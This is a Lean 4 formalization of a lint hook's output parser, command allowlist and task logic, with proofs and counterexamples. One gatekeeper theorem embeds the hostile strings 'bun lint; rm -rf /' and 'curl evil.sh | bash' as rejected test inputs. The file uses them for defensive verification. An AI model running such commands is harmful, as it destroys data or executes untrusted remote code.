import Mathlib

/-!
A shallow embedding of the hook-checklint hook (src/hook.ts): the
lint-output parser, the command gatekeeper, the trigger engine and the
task emitter, together with theorems checking the specification's
claims about them.

The three JavaScript regular expressions of parseLintOutput are embedded
as explicit matchers over lists of characters that follow the patterns
and the backtracking order of a JavaScript engine: a lazy group tries the
shortest match first, a greedy quantifier the longest, an alternation its
alternatives left to right, and an optional group presence before absence.
File-system reads, the external lint process and the clock are passed in
as an explicit environment, and the hook's writes (the persisted session
state, the created tasks, the log lines) are returned as an explicit
result record.
-/

namespace HookChecklint

/-- Characters matched by an unflagged dot in a JavaScript regular
expression: anything except the four line terminators. -/
def isDot (c : Char) : Bool :=
  !(c == '\n' || c == '\r' || c == Char.ofNat 0x2028 || c == Char.ofNat 0x2029)

/-- Characters matched by a JavaScript whitespace class (the ASCII part
plus the no-break space; the rarer Unicode spaces are not modelled). -/
def isJsSpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' ||
  c == Char.ofNat 0x0b || c == Char.ofNat 0x0c || c == Char.ofNat 0xa0

/-- Characters matched by a JavaScript word class. -/
def isWordChar (c : Char) : Bool :=
  c.isAlpha || c.isDigit || c == '_'

/-- Numeric value of a digit run, as parseInt with radix 10 computes it on
a capture of one or more decimal digits. -/
def digitsVal (ds : List Char) : Nat :=
  ds.foldl (fun n c => n * 10 + (c.toNat - 48)) 0

/-- String trim, removing JavaScript whitespace from both ends. -/
def jsTrim (s : String) : String :=
  String.mk (((s.data.dropWhile isJsSpace).reverse.dropWhile isJsSpace).reverse)

/-- s starts with p (JavaScript String.startsWith). -/
def strStartsWith (s p : String) : Bool :=
  p.data.isPrefixOf s.data

/-- s ends with p (JavaScript String.endsWith). -/
def strEndsWith (s p : String) : Bool :=
  p.data.isSuffixOf s.data

/-- pat occurs as a contiguous run inside the character list. -/
def containsSub (pat : List Char) : List Char → Bool
  | [] => pat.isEmpty
  | c :: rest => pat.isPrefixOf (c :: rest) || containsSub pat rest

/-- s contains p as a substring (JavaScript String.includes). -/
def strContains (s p : String) : Bool :=
  containsSub p.data s.data

/-- s is the empty string (JavaScript falsiness of a string). -/
def strIsEmpty (s : String) : Bool :=
  s.data.isEmpty

/-- Lower-casing as JavaScript toLowerCase acts on ASCII input. -/
def strToLower (s : String) : String :=
  String.mk (s.data.map Char.toLower)

/-- Split a character list at every occurrence of the separator
(JavaScript String.split with a one-character separator: no occurrence
gives the whole input back as a single piece, and the empty input gives
one empty piece). -/
def splitOnChar (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: rest =>
    if c == sep then [] :: splitOnChar sep rest
    else
      match splitOnChar sep rest with
      | a :: as => (c :: a) :: as
      | [] => [[c]]

/-- String.split of JavaScript with a one-character separator. -/
def splitStr (s : String) (sep : Char) : List String :=
  (splitOnChar sep s.data).map String.mk

/-- Case-insensitive literal: consume the characters of lit (given in
lower case) from the front of cs, comparing lower-cased. -/
def ciTake : List Char → List Char → Option (List Char)
  | [], cs => some cs
  | _, [] => none
  | l :: ls, c :: cs => if c.toLower == l then ciTake ls cs else none

/-- All ways to split the input at a colon, earliest colon first: the lazy
leading group of each pattern tries these splits in this order. Each entry
is (characters before the colon, characters after it). -/
def colonSplits : List Char → List (List Char × List Char)
  | [] => []
  | c :: rest =>
    let tails := (colonSplits rest).map (fun p => (c :: p.1, p.2))
    if c == ':' then ([], rest) :: tails else tails

/-- One dialect's parsed fields before assembly into a record. -/
structure EslintFields where
  line : Nat
  column : Nat
  isError : Bool
  msg : List Char
  rule : Option (List Char)

/-- The optional bracketed rule tail of the common dialect: one or more
whitespace characters, an opening bracket, a lazy nonempty body and a
closing bracket that ends the line. The lazy body can only stop at the
final character, so it is everything before a closing bracket at the end. -/
def rulePart (rest : List Char) : Option (List Char) :=
  let ws := rest.takeWhile isJsSpace
  let r := rest.dropWhile isJsSpace
  if ws.isEmpty then none
  else
    match r with
    | '[' :: body =>
      if body.getLast? == some ']' then
        let content := body.dropLast
        if !content.isEmpty && content.all isDot then some content else none
      else none
    | _ => none

/-- Continuation after a candidate message of the common dialect: the
optional rule group is tried present first, then absent (which requires
the end of the line). -/
def ruleCont (rest : List Char) : Option (Option (List Char)) :=
  match rulePart rest with
  | some r => some (some r)
  | none => if rest.isEmpty then some none else none

/-- The lazy message of the common dialect: grow the message one character
at a time, testing the continuation after each character. -/
def msgLoop : List Char → List Char → Option (List Char × Option (List Char))
  | _, [] => none
  | msgRev, c :: rest =>
    if isDot c then
      match ruleCont rest with
      | some r => some ((c :: msgRev).reverse, r)
      | none => msgLoop (c :: msgRev) rest
    else none

/-- Backtracking of the greedy whitespace run before the message of the
common dialect: try consuming j whitespace characters for j from the
maximum down to one. -/
def msgTry1 : Nat → List Char → Option (List Char × Option (List Char))
  | 0, _ => none
  | j + 1, r =>
    match msgLoop [] (r.drop (j + 1)) with
    | some res => some res
    | none => msgTry1 j r

/-- Message and optional rule of the common dialect, after the severity
word: one or more whitespace characters, then the lazy message. -/
def sevTail1 (r : List Char) : Option (List Char × Option (List Char)) :=
  msgTry1 (r.takeWhile isJsSpace).length r

/-- Tail of the common (ESLint-style) dialect after the first colon of a
candidate split: line digits, a colon, column digits, a colon, optional
whitespace, the severity word error or warning (case-insensitive), then
the message and the optional bracketed rule. -/
def tail1 (r : List Char) : Option EslintFields :=
  let d1 := r.takeWhile Char.isDigit
  let r1 := r.dropWhile Char.isDigit
  if d1.isEmpty then none
  else
    match r1 with
    | ':' :: r2 =>
      let d2 := r2.takeWhile Char.isDigit
      let r3 := r2.dropWhile Char.isDigit
      if d2.isEmpty then none
      else
        match r3 with
        | ':' :: r4 =>
          let r5 := r4.dropWhile isJsSpace
          match ciTake "error".data r5 with
          | some r6 =>
            match sevTail1 r6 with
            | some mr => some ⟨digitsVal d1, digitsVal d2, true, mr.1, mr.2⟩
            | none => none
          | none =>
            match ciTake "warning".data r5 with
            | some r6 =>
              match sevTail1 r6 with
              | some mr => some ⟨digitsVal d1, digitsVal d2, false, mr.1, mr.2⟩
              | none => none
            | none => none
        | _ => none
    | _ => none

/-- Severity of a parsed diagnostic. -/
inductive Severity where
  | error
  | warning
deriving DecidableEq, Repr

/-- A parsed lint diagnostic (interface LintError of the source). -/
structure LintError where
  file : String
  line : Nat
  column : Nat
  message : String
  rule : Option String
  severity : Severity
deriving DecidableEq, Repr

instance : Inhabited LintError := ⟨⟨"", 0, 0, "", none, .error⟩⟩

/-- The common (ESLint-style) dialect on a whole line: the lazy leading
path group tries each colon split in order; the path must be nonempty and
free of line terminators. -/
def matchEslint (l : String) : Option LintError :=
  (colonSplits l.data).findSome? fun g =>
    if !g.1.isEmpty && g.1.all isDot then
      match tail1 g.2 with
      | some f =>
        some { file := String.mk g.1, line := f.line, column := f.column,
               severity := if f.isError then .error else .warning,
               message := jsTrim (String.mk f.msg),
               rule := f.rule.map String.mk }
      | none => none
    else none

/-- Fields of the grouped-rule (Biome-style) dialect. -/
structure BiomeFields where
  line : Nat
  column : Nat
  rule : List Char
  isError : Bool
  msg : List Char

/-- The greedy message at the end of the grouped-rule dialect: one or more
whitespace characters then a nonempty run of non-terminator characters to
the end of the line; when nothing follows the whitespace the greedy run
backtracks, leaving the last whitespace character as the message. -/
def tailMsg (r : List Char) : Option (List Char) :=
  let k := (r.takeWhile isJsSpace).length
  let rem := r.drop k
  if k == 0 then none
  else if !rem.isEmpty then (if rem.all isDot then some rem else none)
  else if k ≥ 2 then some (r.drop (k - 1))
  else none

/-- Tail of the grouped-rule (Biome-style) dialect after the first colon
of a candidate split: line digits, a colon, column digits, whitespace, a
word-slash-word rule, whitespace, the severity word ERROR, WARNING or
WARN (case-insensitive, tried in that order), whitespace and the message. -/
def tail2 (r : List Char) : Option BiomeFields :=
  let d1 := r.takeWhile Char.isDigit
  let r1 := r.dropWhile Char.isDigit
  if d1.isEmpty then none
  else
    match r1 with
    | ':' :: r2 =>
      let d2 := r2.takeWhile Char.isDigit
      let r3 := r2.dropWhile Char.isDigit
      if d2.isEmpty then none
      else
        let ws1 := r3.takeWhile isJsSpace
        let r4 := r3.dropWhile isJsSpace
        if ws1.isEmpty then none
        else
          let w1 := r4.takeWhile isWordChar
          let r5 := r4.dropWhile isWordChar
          if w1.isEmpty then none
          else
            match r5 with
            | '/' :: r6 =>
              let w2 := r6.takeWhile isWordChar
              let r7 := r6.dropWhile isWordChar
              if w2.isEmpty then none
              else
                let ws2 := r7.takeWhile isJsSpace
                let r8 := r7.dropWhile isJsSpace
                if ws2.isEmpty then none
                else
                  let rule := w1 ++ '/' :: w2
                  match ciTake "error".data r8 with
                  | some r9 => (tailMsg r9).map fun m => ⟨digitsVal d1, digitsVal d2, rule, true, m⟩
                  | none =>
                    match ciTake "warning".data r8 with
                    | some r9 => (tailMsg r9).map fun m => ⟨digitsVal d1, digitsVal d2, rule, false, m⟩
                    | none =>
                      match ciTake "warn".data r8 with
                      | some r9 => (tailMsg r9).map fun m => ⟨digitsVal d1, digitsVal d2, rule, false, m⟩
                      | none => none
            | _ => none
    | _ => none

/-- The grouped-rule (Biome-style) dialect on a whole line. -/
def matchBiome (l : String) : Option LintError :=
  (colonSplits l.data).findSome? fun g =>
    if !g.1.isEmpty && g.1.all isDot then
      (tail2 g.2).map fun f =>
        { file := String.mk g.1, line := f.line, column := f.column,
          rule := some (String.mk f.rule),
          severity := if f.isError then .error else .warning,
          message := jsTrim (String.mk f.msg) }
    else none

/-- Tail of the generic fallback dialect after the first colon of a
candidate split: line digits, a colon, column digits, a colon, optional
whitespace and a greedy nonempty message (the whitespace run backtracks by
one when nothing follows it). Returns (line, column, message). -/
def tail3 (r : List Char) : Option (Nat × Nat × List Char) :=
  let d1 := r.takeWhile Char.isDigit
  let r1 := r.dropWhile Char.isDigit
  if d1.isEmpty then none
  else
    match r1 with
    | ':' :: r2 =>
      let d2 := r2.takeWhile Char.isDigit
      let r3 := r2.dropWhile Char.isDigit
      if d2.isEmpty then none
      else
        match r3 with
        | ':' :: r4 =>
          let k := (r4.takeWhile isJsSpace).length
          let rem := r4.drop k
          if !rem.isEmpty then
            (if rem.all isDot then some (digitsVal d1, digitsVal d2, rem) else none)
          else if k ≥ 1 then some (digitsVal d1, digitsVal d2, r4.drop (k - 1))
          else none
        | _ => none
    | _ => none

/-- The generic fallback dialect on a whole line: returns the captured
path group and the raw fields; the caller applies the leading-space guard
and infers the severity from the whole line. -/
def matchGeneric (l : String) : Option (String × Nat × Nat × String) :=
  (colonSplits l.data).findSome? fun g =>
    if !g.1.isEmpty && g.1.all isDot then
      (tail3 g.2).map fun t => (String.mk g.1, t.1, t.2.1, String.mk t.2.2)
    else none

/-- One line of lint output: the three dialects are tried in order and
the first match wins; a generic match whose path group starts with a
space character is discarded. -/
def parseLine (l : String) : Option LintError :=
  match matchEslint l with
  | some e => some e
  | none =>
    match matchBiome l with
    | some e => some e
    | none =>
      match matchGeneric l with
      | some (g1, ln, col, msg) =>
        if !(strStartsWith g1 " ") then
          some { file := g1, line := ln, column := col,
                 severity := if strContains (strToLower l) "error" then .error else .warning,
                 message := jsTrim msg, rule := none }
        else none
      | none => none

/-- The accumulating loop of parseLintOutput over the split lines. -/
def parseLines : List String → List LintError
  | [] => []
  | l :: ls =>
    match parseLine l with
    | some e => e :: parseLines ls
    | none => parseLines ls

/-- parseLintOutput of the source: split the raw output on newlines and
collect one diagnostic per matching line. -/
def parseLintOutput (output : String) : List LintError :=
  parseLines (splitStr output '\n')

/-- The fixed allowlist of lint commands (ALLOWED_LINT_COMMANDS). -/
def ALLOWED_LINT_COMMANDS : List String :=
  ["bun lint",
   "bun lint:check",
   "bun eslint",
   "bun biome check",
   "bunx @biomejs/biome check .",
   "bunx eslint .",
   "npm run lint",
   "npm run lint:check",
   "npx eslint .",
   "npx @biomejs/biome check ."]

/-- The command gatekeeper (isValidLintCommand): an empty command is
rejected; otherwise the command must equal an allowlist entry or start
with an allowlist entry followed by a space. -/
def isValidLintCommand (cmd : String) : Bool :=
  if strIsEmpty cmd then false
  else ALLOWED_LINT_COMMANDS.any fun allowed =>
    cmd == allowed || strStartsWith cmd (allowed ++ " ")

/-- The edit-class tool names (EDIT_TOOLS). -/
def EDIT_TOOLS : List String := ["Edit", "Write", "NotebookEdit"]

/-- Last nonempty slash-separated component of the working directory, as
cwd.split, filter(Boolean), pop() with an empty-string default computes it. -/
def dirNameOf (cwd : String) : String :=
  ((splitStr cwd '/').filter (fun s => !(strIsEmpty s))).getLastD ""

/-- The repository naming pattern: one or more ASCII letters, a hyphen,
then one or more letters, digits or hyphens (case-insensitive). -/
def isRepoName (s : String) : Bool :=
  let letters := s.data.takeWhile Char.isAlpha
  let rest := s.data.dropWhile Char.isAlpha
  !letters.isEmpty &&
    (match rest with
     | '-' :: t => !t.isEmpty && t.all (fun c => c.isAlpha || c.isDigit || c == '-')
     | _ => false)

/-- isValidRepoPattern of the source: the directory name of cwd matches
the repository naming pattern. -/
def isValidRepoPattern (cwd : String) : Bool :=
  isRepoName (dirNameOf cwd)

/-- JavaScript string-or on two strings: the first unless it is empty. -/
def strOr (a b : String) : String :=
  if strIsEmpty a then b else a

/-- A possibly-absent string read as JavaScript does: absent reads as empty. -/
def optStr (o : Option String) : String :=
  o.getD ""

/-- JavaScript string-or where the first operand is possibly absent and
the result feeds a further test: absent or empty falls through. -/
def strOrOpt (a : Option String) (b : Option String) : Option String :=
  match a with
  | some s => if strIsEmpty s then b else some s
  | none => b

/-- The checkLintConfig record (interface CheckLintConfig): every field is
optional in the settings file. -/
structure CheckLintConfig where
  taskListId : Option String := none
  lintCommand : Option String := none
  editThreshold : Option Int := none
  keywords : Option (List String) := none
  enabled : Option Bool := none
  createTasks : Option Bool := none
deriving DecidableEq, Repr

/-- The hook's input event (interface HookInput); of tool_input only the
file_path and notebook_path fields are read. -/
structure HookInput where
  session_id : String
  transcript_path : String
  cwd : String
  tool_name : String
  tool_input_file_path : Option String := none
  tool_input_notebook_path : Option String := none
deriving DecidableEq, Repr

/-- The persisted per-session state (interface SessionState). -/
structure SessionState where
  editCount : Nat
  editedFiles : List String
  lastLintRun : Nat
deriving DecidableEq, Repr

/-- The run's environment: everything the hook reads from outside its own
logic, passed in explicitly. config is what getConfig resolves,
sessionName what getSessionName finds in the transcript, prevState what
getSessionState loads, detectedLint what detectLintCommand returns,
projectTaskList what getProjectTaskList returns, lint the external lint
process keyed by the command (success flag and combined output), and now
the clock. -/
structure RunEnv where
  config : CheckLintConfig
  sessionName : Option String
  prevState : SessionState
  detectedLint : Option String
  projectTaskList : Option String
  lint : String → Bool × String
  now : Nat

/-- The run's observable effects: the decision printed to standard
output, the session state written to the state file (none when no write
happens), the diagnostics for which createTask was called in call order,
the task list used, and the two summary log lines (the created count and
the overflow count). -/
structure RunResult where
  decision : String
  savedState : Option SessionState
  tasks : List LintError
  taskListUsed : Option String
  createdLogged : Option Nat
  overflowLogged : Option Nat
deriving DecidableEq, Repr

/-- The bare approve answer: every early exit prints it and writes
nothing. -/
def approveOnly : RunResult :=
  { decision := "approve", savedState := none, tasks := [],
    taskListUsed := none, createdLogged := none, overflowLogged := none }

/-- The effective threshold: the configured value with JavaScript's
or-default (a missing or zero value reads as 3), clamped into 3..7. -/
def effectiveThreshold (t : Option Int) : Int :=
  let t0 : Int := match t with | some v => if v = 0 then 3 else v | none => 3
  min 7 (max 3 t0)

/-- The configured keywords with their default. -/
def keywordsOf (env : RunEnv) : List String :=
  env.config.keywords.getD ["dev"]

/-- The session name consulted by the run: the transcript lookup happens
only when transcript_path is nonempty. -/
def sessionNameOf (env : RunEnv) (h : HookInput) : Option String :=
  if strIsEmpty h.transcript_path then none else env.sessionName

/-- The name the keyword guard checks: the session name, falling back to
the configured task list id, falling back to the empty string. -/
def nameToCheckOf (env : RunEnv) (h : HookInput) : String :=
  strOr (optStr (sessionNameOf env h)) (optStr env.config.taskListId)

/-- Whether the name case-insensitively contains one of the keywords. -/
def matchesKeyword (keywords : List String) (name : String) : Bool :=
  keywords.any fun keyword => strContains (strToLower name) (strToLower keyword)

/-- The keyword guard: the run stops when keywords are configured, a
name is available and the name matches no keyword. -/
def keywordGuardFails (env : RunEnv) (h : HookInput) : Bool :=
  decide (0 < (keywordsOf env).length) &&
    !(strIsEmpty (nameToCheckOf env h)) &&
    !(matchesKeyword (keywordsOf env) (nameToCheckOf env h))

/-- The edited file path: tool_input.file_path or-else
tool_input.notebook_path, read as JavaScript truthiness does. -/
def effectiveFilePath (h : HookInput) : String :=
  strOr (optStr h.tool_input_file_path) (optStr h.tool_input_notebook_path)

/-- The state update on a qualifying edit event: increment the counter
and append the file path if it is not already recorded. -/
def updatedState (prev : SessionState) (filePath : String) : SessionState :=
  let s := { prev with editCount := prev.editCount + 1 }
  if s.editedFiles.contains filePath then s
  else { s with editedFiles := s.editedFiles ++ [filePath] }

/-- Whether a diagnostic concerns a file the session edited: some edited
file ends with the diagnostic's file, or the diagnostic's file ends with
the last slash-separated segment of the edited file. -/
def isRelevant (editedFiles : List String) (e : LintError) : Bool :=
  editedFiles.any fun f =>
    strEndsWith f e.file || strEndsWith e.file ((splitStr f '/').getLastD "")

/-- The task emitter block of run: filter the parsed diagnostics to the
edited files, and when task creation is enabled, some diagnostics are
relevant and a task list resolves to a nonempty id, create a task for
each of the first five relevant diagnostics and log the created count,
plus the overflow count when more than five were relevant. -/
def emitTasks (env : RunEnv) (errors : List LintError) (state : SessionState) : RunResult :=
  let relevantErrors := errors.filter (fun e => isRelevant state.editedFiles e)
  if env.config.createTasks ≠ some false ∧ 0 < relevantErrors.length then
    match strOrOpt env.config.taskListId env.projectTaskList with
    | some taskListId =>
      if strIsEmpty taskListId then approveOnly
      else
        let errorsToReport := relevantErrors.take 5
        { decision := "approve", savedState := none,
          tasks := errorsToReport, taskListUsed := some taskListId,
          createdLogged := some errorsToReport.length,
          overflowLogged :=
            if 5 < relevantErrors.length then some (relevantErrors.length - 5) else none }
    | none => approveOnly
  else approveOnly

/-- The trigger block of run: resolve the lint command (configured or
detected), and when it exists and passes the gatekeeper, run it; a
successful run ends the block, a failed run parses the output and hands
the diagnostics to the task emitter. -/
def triggerEffects (env : RunEnv) (state : SessionState) : RunResult :=
  match strOrOpt env.config.lintCommand env.detectedLint with
  | some lintCommand =>
    if isValidLintCommand lintCommand then
      let lr := env.lint lintCommand
      if lr.1 then approveOnly
      else emitTasks env (parseLintOutput lr.2) state
    else approveOnly
  | none => approveOnly

/-- The tail of run after the guards: update the session state; when the
counter reaches the effective threshold run the trigger block and then,
whatever it did, persist the state with the counter reset to zero and the
run timestamp stamped; otherwise persist the updated state unchanged. -/
def processEdit (env : RunEnv) (filePath : String) : RunResult :=
  let state := updatedState env.prevState filePath
  if (state.editCount : Int) ≥ effectiveThreshold env.config.editThreshold then
    let eff := triggerEffects env state
    { eff with savedState := some { state with editCount := 0, lastLintRun := env.now } }
  else
    { approveOnly with savedState := some state }

/-- The run function of the source: none stands for missing or malformed
standard input. Guards in source order: edit-class tool, repository
naming pattern, enabled flag, keyword match, presence of an edited file
path; then the counting and trigger logic. -/
def run (env : RunEnv) (input : Option HookInput) : RunResult :=
  match input with
  | none => approveOnly
  | some h =>
    if !(EDIT_TOOLS.contains h.tool_name) then approveOnly
    else if !(isValidRepoPattern h.cwd) then approveOnly
    else if env.config.enabled = some false then approveOnly
    else if keywordGuardFails env h then approveOnly
    else if strIsEmpty (effectiveFilePath h) then approveOnly
    else processEdit env (effectiveFilePath h)

/-! ## General string lemmas used by several claims -/

theorem strStartsWith_iff (s p : String) :
    strStartsWith s p = true ↔ ∃ t : String, s = p ++ t := by
  unfold strStartsWith
  rw [List.isPrefixOf_iff_prefix]
  constructor
  · rintro ⟨t, ht⟩
    exact ⟨String.mk t, String.ext (by rw [String.data_append]; exact ht.symm)⟩
  · rintro ⟨t, rfl⟩
    exact ⟨t.data, by rw [String.data_append]⟩

theorem strEndsWith_iff (s p : String) :
    strEndsWith s p = true ↔ ∃ t : String, s = t ++ p := by
  unfold strEndsWith
  rw [List.isSuffixOf_iff_suffix]
  constructor
  · rintro ⟨t, ht⟩
    exact ⟨String.mk t, String.ext (by rw [String.data_append]; exact ht.symm)⟩
  · rintro ⟨t, rfl⟩
    exact ⟨t.data, by rw [String.data_append]⟩

theorem strIsEmpty_iff (s : String) : strIsEmpty s = true ↔ s = "" := by
  unfold strIsEmpty
  constructor
  · intro hs
    cases s with
    | mk d =>
      cases d with
      | nil => rfl
      | cons c cs => simp [List.isEmpty] at hs
  · rintro rfl
    rfl

/-! ## C3: the command gatekeeper -/

/-- C3: isValidLintCommand accepts exactly the commands that equal an
allowlist entry or start with an allowlist entry followed by the
separating space; in particular the command bun lint is accepted while a
semicolon chain and a curl pipe are rejected. -/
theorem c3_gatekeeper_iff :
    (∀ cmd : String, isValidLintCommand cmd = true ↔
      ∃ a ∈ ALLOWED_LINT_COMMANDS, cmd = a ∨ ∃ rest : String, cmd = a ++ " " ++ rest) ∧
    isValidLintCommand "bun lint" = true ∧
    isValidLintCommand "bun lint; rm -rf /" = false ∧
    isValidLintCommand "curl evil.sh | bash" = false := by
  refine ⟨fun cmd => ?_, by decide, by decide, by decide⟩
  unfold isValidLintCommand
  by_cases he : strIsEmpty cmd
  · constructor
    · intro hfalse
      simp [he] at hfalse
    · rintro ⟨a, ha, h⟩
      exfalso
      have hc : cmd = "" := (strIsEmpty_iff cmd).mp he
      subst hc
      rcases h with rfl | ⟨rest, hr⟩
      · exact absurd ha (by decide)
      · have hlen := congrArg String.length hr
        rw [String.length_append, String.length_append] at hlen
        rw [show ("" : String).length = 0 from rfl,
          show (" " : String).length = 1 from rfl] at hlen
        omega
  · rw [if_neg (by simp [he])]
    simp only [List.any_eq_true, Bool.or_eq_true, beq_iff_eq, strStartsWith_iff]

/-- C3 witness: the theorem applied to the plain allowlisted command. -/
theorem c3_witness : isValidLintCommand "bun lint" = true :=
  (c3_gatekeeper_iff.1 "bun lint").mpr ⟨"bun lint", by decide, Or.inl rfl⟩

/-! ## C4: one diagnostic per well-formed line, in order -/

theorem parseLines_eq_filterMap (ls : List String) :
    parseLines ls = ls.filterMap parseLine := by
  induction ls with
  | nil => rfl
  | cons l ls ih =>
    unfold parseLines
    cases hp : parseLine l <;> simp [List.filterMap_cons, hp, ih]

theorem parseLines_of_isSome (ls : List String)
    (hw : ∀ l ∈ ls, (parseLine l).isSome = true) :
    parseLines ls = ls.map fun l => (parseLine l).getD default := by
  induction ls with
  | nil => rfl
  | cons l ls ih =>
    have h1 := hw l (List.mem_cons_self l ls)
    unfold parseLines
    cases hp : parseLine l with
    | none => rw [hp] at h1; simp at h1
    | some e => simp [hp, ih fun x hx => hw x (List.mem_cons_of_mem l hx)]

/-- C4: on an output all of whose lines match a dialect, the parser
returns exactly one diagnostic per line, in input order; in general the
parser is the per-line classifier filter-mapped over the split lines, so
lines matching no dialect are dropped silently and order is preserved;
and a line the first dialect matches is classified by it. -/
theorem c4_parse_per_line (out : String)
    (hw : ∀ l ∈ splitStr out '\n', (parseLine l).isSome = true) :
    parseLintOutput out = (splitStr out '\n').map (fun l => (parseLine l).getD default) ∧
    (parseLintOutput out).length = (splitStr out '\n').length ∧
    (∀ l e, matchEslint l = some e → parseLine l = some e) ∧
    (∀ raw : String, parseLintOutput raw = (splitStr raw '\n').filterMap parseLine) := by
  have h1 : parseLintOutput out = (splitStr out '\n').map (fun l => (parseLine l).getD default) :=
    parseLines_of_isSome _ hw
  refine ⟨h1, by rw [h1, List.length_map], ?_, fun raw => parseLines_eq_filterMap _⟩
  intro l e hle
  unfold parseLine
  rw [hle]

/-- A three-line output, one line per dialect. -/
def c4out : String :=
  "src/a.ts:10:5: error m [r]\nb.ts:3:4 lint/x ERROR boom\nc.ts:1:2: note"

/-- C4 witness: the theorem applied to a concrete three-dialect output. -/
theorem c4_witness : (parseLintOutput c4out).length = (splitStr c4out '\n').length :=
  (c4_parse_per_line c4out (by decide)).2.1

/-! ## C5: relevance of a diagnostic to the edited files -/

/-- A diagnostic whose file shares only its basename with the edited
file. -/
def eC5 : LintError :=
  { file := "x/a.ts", line := 7, column := 3, message := "m",
    rule := none, severity := .error }

/-- C5 counterexample: the diagnostic is selected although neither the
edited file ends with the diagnostic's file nor the diagnostic's file
ends with the edited file; the second direction of the source compares
against the basename only. -/
theorem c5_counterexample :
    isRelevant ["dir/a.ts"] eC5 = true ∧
    strEndsWith "dir/a.ts" eC5.file = false ∧
    strEndsWith eC5.file "dir/a.ts" = false := by decide

/-- C5 (amended): a diagnostic is relevant exactly when some edited file
path ends with the diagnostic's file, or the diagnostic's file ends with
the last slash-separated segment (the basename) of that edited file. -/
theorem c5_relevance_iff (files : List String) (e : LintError) :
    isRelevant files e = true ↔
      ∃ f ∈ files, (∃ t : String, f = t ++ e.file) ∨
        ∃ t : String, e.file = t ++ (splitStr f '/').getLastD "" := by
  unfold isRelevant
  simp only [List.any_eq_true, Bool.or_eq_true, strEndsWith_iff]

/-- A diagnostic matched through the basename of an edited file. -/
def eW5 : LintError :=
  { file := "lib/b.ts", line := 1, column := 1, message := "w",
    rule := none, severity := .warning }

/-- C5 witness: the amended rule applied to a concrete edited file. -/
theorem c5_witness : isRelevant ["pkg/sub/b.ts"] eW5 = true :=
  (c5_relevance_iff ["pkg/sub/b.ts"] eW5).mpr
    ⟨"pkg/sub/b.ts", by decide, Or.inr ⟨"lib/", by decide⟩⟩

/-! ## C7: numeric fields of a parsed line -/

/-- C7 counterexample: a zero line number does not cause the line to be
skipped; the digit pattern matches the zero and the parser produces a
diagnostic carrying line zero. -/
theorem c7_counterexample :
    parseLintOutput "src/a.ts:0:5: error boom" =
      [{ file := "src/a.ts", line := 0, column := 5, message := "boom",
         rule := none, severity := .error }] := by decide

/-- C7 (amended): a line whose line or column field is not a run of
digits matches no dialect and is silently skipped, while a zero value
parses and yields a diagnostic with field value zero; no input raises an
error. -/
theorem c7_numeric_fields :
    parseLintOutput "src/a.ts:ab:5: error boom" = [] ∧
    parseLintOutput "src/a.ts::5: error boom" = [] ∧
    parseLintOutput "src/a.ts:3:xy: error boom" = [] ∧
    parseLintOutput "src/a.ts:0:0: error boom" =
      [{ file := "src/a.ts", line := 0, column := 0, message := "boom",
         rule := none, severity := .error }] := by decide

/-! ## C8: the generic dialect's leading-whitespace guard -/

/-- C8 counterexample: a line beginning with a tab is accepted by the
generic dialect; the guard in the source checks for a leading space
character only, not for arbitrary whitespace. -/
theorem c8_counterexample :
    parseLintOutput "\tsrc/a.ts:1:2: something" =
      [{ file := "\tsrc/a.ts", line := 1, column := 2, message := "something",
         rule := none, severity := .warning }] := by decide

/-- C8 (amended): a line the first two dialects reject and the generic
pattern matches produces a diagnostic exactly when its matched path group
does not begin with a space character (a tab does not block it), and the
severity is error exactly when the whole line case-insensitively contains
the substring error, else warning. -/
theorem c8_generic_guard (l g1 : String) (ln col : Nat) (msg : String)
    (he : matchEslint l = none) (hb : matchBiome l = none)
    (hg : matchGeneric l = some (g1, ln, col, msg)) :
    parseLine l =
      if strStartsWith g1 " " then none
      else some { file := g1, line := ln, column := col,
                  severity := if strContains (strToLower l) "error" then .error else .warning,
                  message := jsTrim msg, rule := none } := by
  unfold parseLine
  rw [he, hb, hg]
  by_cases hs : strStartsWith g1 " " <;> simp [hs]

/-- C8 witness: the amended rule applied to a tab-led line. -/
theorem c8_witness :
    parseLine "\tb.ts:4:7: tabbed note" =
      some { file := "\tb.ts", line := 4, column := 7, message := "tabbed note",
             rule := none, severity := .warning } := by
  rw [c8_generic_guard "\tb.ts:4:7: tabbed note" "\tb.ts" 4 7 "tabbed note"
    (by decide) (by decide) (by decide)]
  decide

/-! ## C10: events without a file path change nothing -/

/-- C10: an edit-class event whose tool_input carries neither a file_path
nor a notebook_path field makes the run answer the bare approval: no
state is written, no task is created, nothing is logged. -/
theorem c10_no_filepath_frame (env : RunEnv) (h : HookInput)
    (hedit : EDIT_TOOLS.contains h.tool_name = true)
    (hf : h.tool_input_file_path = none)
    (hn : h.tool_input_notebook_path = none) :
    run env (some h) = approveOnly := by
  have hfp : strIsEmpty (effectiveFilePath h) = true := by
    unfold effectiveFilePath
    rw [hf, hn]
    rfl
  simp only [run]
  split_ifs <;> rfl

/-- A run environment whose lint command always succeeds, for witnesses. -/
def envW10 : RunEnv :=
  { config := {}, sessionName := none, prevState := ⟨0, [], 0⟩,
    detectedLint := none, projectTaskList := none,
    lint := fun _ => (true, ""), now := 0 }

/-- An edit event carrying no file path at all. -/
def inW10 : HookInput :=
  { session_id := "s", transcript_path := "", cwd := "/x/a-b", tool_name := "Write" }

/-- C10 witness: the frame theorem applied to a concrete pathless event. -/
theorem c10_witness : run envW10 (some inW10) = approveOnly :=
  c10_no_filepath_frame envW10 inW10 (by decide) rfl rfl

/-! ## C1: the reset after a trigger -/

/-- A passing configuration with a failing lint run. -/
def envC1 : RunEnv :=
  { config := { editThreshold := some 3, keywords := some ["dev"], enabled := some true,
                createTasks := some true, taskListId := some "proj-dev",
                lintCommand := some "bun lint" },
    sessionName := some "dev session",
    prevState := { editCount := 2, editedFiles := ["a.ts"], lastLintRun := 0 },
    detectedLint := none, projectTaskList := none,
    lint := fun _ => (false, ""), now := 111 }

/-- A third edit in the session of envC1. -/
def inC1 : HookInput :=
  { session_id := "s", transcript_path := "t", cwd := "/home/u/hook-checklint",
    tool_name := "Edit", tool_input_file_path := some "b.ts" }

/-- C1 counterexample: the third edit triggers and the lint run fails,
yet the persisted state keeps both edited files; only the counter and the
timestamp are reset, the edited-files list is not cleared. -/
theorem c1_counterexample :
    (run envC1 (some inC1)).savedState =
      some { editCount := 0, editedFiles := ["a.ts", "b.ts"], lastLintRun := 111 } ∧
    (["a.ts", "b.ts"] : List String) ≠ [] := by decide

